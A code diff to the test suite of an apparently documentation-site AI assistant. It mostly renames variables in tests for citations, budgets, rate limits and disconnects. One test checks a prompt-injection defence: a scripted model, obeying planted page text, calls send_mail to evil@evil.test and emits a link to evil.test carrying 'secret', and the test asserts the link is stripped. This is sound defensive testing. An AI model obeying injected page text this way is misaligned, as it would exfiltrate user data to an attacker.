@@ -43,14 +43,17 @@ beforeAll(async () => {
     'guides/retries.md': `# Retries\n\nHow often a job runs again.\n\n## Exponential *backoff*\n\nEach wait is twice as long.\n\n${PLANTED}`,
     'guides/limits.md': '# Limits\n\nA kettle holds two liters.',
   });
-  const rendered = [...site.pages.values()].flatMap(({ indexed, html, markdown }): [string, string][] => {
+  const renderedPages = [...site.pages.values()].flatMap(({ indexed, html, markdown }): [string, string][] => {
     const file = indexed?.entry[0] ?? '';
     return [
       [file, html],
       [file.replace(/\.html$/, '.md'), markdown],
     ];
   });
-  bundles = { ...Object.fromEntries([...site.files, ...rendered]), '_docs/assistant.json': '{"assistant":false}\n' };
+  bundles = {
+    ...Object.fromEntries([...site.files, ...renderedPages]),
+    '_docs/assistant.json': '{"assistant":false}\n',
+  };
   release = await load(createFeatures('cloud'));
   model = await startStreamedModel();
   // Loads the renderer.
@@ -84,7 +87,7 @@ interface AssistantBench {
 }
 
 async function serve({ limits, options, base, ...given }: Bench, task: (asking: AssistantBench) => Promise<void>) {
-  const recorded: object[] = [];
+  const recordedQuestions: object[] = [];
   const outcomes: QuestionOutcome[] = [];
   const assistant = createAssistant({
     model: createAssistantModel({
@@ -96,8 +99,8 @@ async function serve({ limits, options, base, ...given }: Bench, task: (asking: 
     limits: { ...LIMITS, ...limits },
     ledger: createMemoryLedger(),
     records: {
-      record: async (question) => void recorded.push(question),
-      rate: async (rated) => void recorded.push(rated),
+      record: async (question) => void recordedQuestions.push(question),
+      rate: async (rated) => void recordedQuestions.push(rated),
     },
     observeQuestion: (outcome) => outcomes.push(outcome),
     log: () => undefined,
@@ -120,7 +123,7 @@ async function serve({ limits, options, base, ...given }: Bench, task: (asking: 
       headers: { 'content-type': 'application/json', origin: server.url, ...init.headers },
     });
   try {
-    await task({ server, ask, recorded, outcomes });
+    await task({ server, ask, recorded: recordedQuestions, outcomes });
   } finally {
     await server.close(0);
   }
@@ -149,9 +152,9 @@ test("streams a reply that links to the pages and headings it is based on, below
   });
   await serve({ base: '/docs' }, async ({ ask, recorded, outcomes }) => {
     const events = await readEvents(await ask('How long are the waits of retries?'));
-    const [first, , read] = events;
+    const [first, , readEvent] = events;
     expect(first).toEqual({ type: 'start', id: expect.stringMatching(/^[\w-]{22}$/) });
-    expect(read).toEqual({ type: 'read', title: 'Retries', url: '/docs/guides/retries' });
+    expect(readEvent).toEqual({ type: 'read', title: 'Retries', url: '/docs/guides/retries' });
     expect(events.filter(({ type }) => type === 'text').length).toBeGreaterThan(1);
     expect(getText(events)).toBe(
       'Each wait is, in every job, [twice as long](/docs/guides/retries#exponential-backoff).',
@@ -189,8 +192,8 @@ test('keeps only links to what was read, not to other pages, hosts and headings'
 });
 
 test('treats page text as data in a tool result, and a model that obeys it reaches nothing', async () => {
-  const obeys = { name: 'send_mail', args: { to: 'evil@evil.test' } };
-  model.script(READ, { calls: [obeys] }, { text: [`Done. [click](https://evil.test/?q=secret)`] });
+  const toolCall = { name: 'send_mail', args: { to: 'evil@evil.test' } };
+  model.script(READ, { calls: [toolCall] }, { text: [`Done. [click](https://evil.test/?q=secret)`] });
   await serve({}, async ({ ask }) => {
     const events = await readEvents(await ask('How do retries work?'));
     expect(getText(events)).toBe('Done. click');
@@ -263,21 +266,21 @@ test('includes the conversation in a follow-up, and searches again', async () =>
     { role: 'user', text: 'And its limits?' },
   ];
   await serve({}, async ({ ask }) => void (await readEvents(await ask({ messages, page: '/guides/limits' }))));
-  const sent = model.requests[0]?.messages.map(({ role, content }) => [role, content]) ?? [];
-  expect(sent.slice(1, 3)).toEqual([
+  const sentMessages = model.requests[0]?.messages.map(({ role, content }) => [role, content]) ?? [];
+  expect(sentMessages.slice(1, 3)).toEqual([
     ['user', 'What is a kettle?'],
     ['assistant', 'It holds water.'],
   ]);
-  expect(sent[3]?.[1]).toMatch(/And its limits\?[\s\S]*"\/guides\/limits" \("Limits"\)[\s\S]*"results"/);
+  expect(sentMessages[3]?.[1]).toMatch(/And its limits\?[\s\S]*"\/guides\/limits" \("Limits"\)[\s\S]*"results"/);
 });
 
 test('enforces the daily budget across concurrent questions, and says when to retry', async () => {
   const now = () => new Date('2026-11-22T23:59:00Z');
   const usage = { input: 1_500, output: 100 };
   model.script(...Array.from({ length: 20 }, () => ({ ...READ, usage })));
-  let used = 0;
+  let usedCount = 0;
   const observeModel: AssistantOptions['observeModel'] = ({ input, output }) => {
-    used += input + output;
+    usedCount += input + output;
   };
   const options = { now, observeModel };
   await serve({ limits: { tokens: { site: 12_000, all: 99_999 } }, options }, async ({ ask, outcomes }) => {
@@ -290,56 +293,56 @@ test('enforces the daily budget across concurrent questions, and says when to re
     expect([last.status, last.headers.get('retry-after')]).toEqual([429, '60']);
     expect(await last.json()).toEqual({ error: expect.stringContaining('daily limit') });
     expect(outcomes).toContain('limited');
-    expect(used).toBeGreaterThan(6_000);
-    expect(used).toBeLessThanOrEqual(12_000);
+    expect(usedCount).toBeGreaterThan(6_000);
+    expect(usedCount).toBeLessThanOrEqual(12_000);
   });
 });
 
 test('reserves the maximum for a call, and keeps the actual usage', async () => {
-  const booked: number[] = [];
+  const bookedAmounts: number[] = [];
   const memory = createMemoryLedger();
   const ledger: AssistantOptions['ledger'] = {
     take: (claims, at) => {
-      booked.push(...claims.filter(({ scope }) => scope === 'tokens').map(({ amount }) => amount));
+      bookedAmounts.push(...claims.filter(({ scope }) => scope === 'tokens').map(({ amount }) => amount));
       return memory.take(claims, at);
     },
     adjust: (changes, at) => {
-      booked.push(...changes.filter(({ scope }) => scope === 'tokens').map(({ amount }) => amount));
+      bookedAmounts.push(...changes.filter(({ scope }) => scope === 'tokens').map(({ amount }) => amount));
       return memory.adjust(changes, at);
     },
   };
   model.script({ ...READ, usage: { input: 700, output: 20 } }, { text: ['One.'], usage: { input: 900, output: 30 } });
   await serve({ options: { ledger } }, async ({ ask }) => void (await (await ask('retries')).text()));
-  expect(booked.reduce((sum, amount) => sum + amount, 0)).toBe(700 + 20 + 900 + 30);
-  expect(Math.min(...booked.filter((amount) => amount > 500))).toBeGreaterThan(1_000);
+  expect(bookedAmounts.reduce((sum, amount) => sum + amount, 0)).toBe(700 + 20 + 900 + 30);
+  expect(Math.min(...bookedAmounts.filter((amount) => amount > 500))).toBeGreaterThan(1_000);
 });
 
 test('limits questions per visitor and per site', async () => {
   model.script(...Array.from({ length: 40 }, () => ({ text: ['x'] })));
   await serve({ limits: { questions: { visitor: 2, site: 99 } } }, async ({ ask }) => {
     for (let times = 0; times < 2; times += 1) await (await ask('zzyzx')).text();
-    const refused = await ask('zzyzx');
-    expect([refused.status, Number(refused.headers.get('retry-after')) > 1_000]).toEqual([429, true]);
+    const refusedReply = await ask('zzyzx');
+    expect([refusedReply.status, Number(refusedReply.headers.get('retry-after')) > 1_000]).toEqual([429, true]);
     const secondResponse = await ask('zzyzx', { headers: { 'x-forwarded-for': '203.0.113.9' } });
     expect(secondResponse.status).toBe(200);
   });
   await serve({ limits: { questions: { visitor: 99, site: 1 } } }, async ({ ask }) => {
     await (await ask('zzyzx')).text();
-    const refused = await ask('zzyzx', { headers: { 'x-forwarded-for': '203.0.113.9' } });
-    expect([refused.status, refused.headers.has('retry-after')]).toEqual([429, true]);
+    const refusedReply = await ask('zzyzx', { headers: { 'x-forwarded-for': '203.0.113.9' } });
+    expect([refusedReply.status, refusedReply.headers.has('retry-after')]).toEqual([429, true]);
   });
 });
 
 test('aborts the model call when a reader disconnects', async () => {
-  const never = Promise.withResolvers<void>();
-  model.script(READ, { text: ['Each wait is twice as ', 'long'], hold: never.promise });
+  const pendingPromise = Promise.withResolvers<void>();
+  model.script(READ, { text: ['Each wait is twice as ', 'long'], hold: pendingPromise.promise });
   await serve({}, async ({ ask, outcomes, recorded }) => {
-    const leave = new AbortController();
-    const response = await ask('retries', { signal: leave.signal });
+    const leaveController = new AbortController();
+    const response = await ask('retries', { signal: leaveController.signal });
     const reader = response.body?.getReader();
     let replyText = '';
     while (!replyText.includes('Each')) replyText += new TextDecoder().decode((await reader?.read())?.value);
-    leave.abort();
+    leaveController.abort();
     await model.left;
     await vi.waitUntil(() => outcomes.length > 0, { timeout: 300_000 });
     expect(outcomes).toEqual(['left']);
@@ -347,7 +350,7 @@ test('aborts the model call when a reader disconnects', async () => {
     model.script({ text: ['x'] });
     expect((await ask('zzyzx')).status).toBe(200);
   });
-  never.resolve();
+  pendingPromise.resolve();
 });
 
 test('retries a failing model before its first word; otherwise tells the reader that there is no reply', async () => {
